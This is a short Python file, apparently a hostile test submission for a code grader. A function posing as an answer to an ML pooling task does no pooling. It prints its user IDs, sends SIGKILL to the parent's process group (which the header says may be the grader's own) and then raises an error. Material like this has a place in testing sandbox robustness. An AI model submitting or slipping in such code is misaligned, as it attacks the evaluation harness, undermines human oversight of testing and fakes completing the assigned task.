# Sends SIGKILL to the process group of the process that forked it (which may be the grader's own).
import os
import signal


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def pooling_function(activation_map, pool_type='max', stride=2, filter_size=2):
    """ATTACK: os.killpg(os.getpgid(os.getppid()), SIGKILL), then give up."""
    _hostile_uid()
    try:
        group = os.getpgid(os.getppid())
        if group != os.getpgid(0):
            os.killpg(group, signal.SIGKILL)
            print(f"HOSTILE-BREACH sent SIGKILL to process group {group}")
    except OSError as exc:
        print(f"killpg failed: {exc}")
    raise ProcessLookupError("hostile: killed (or tried to kill) the parent's group; nothing to return")
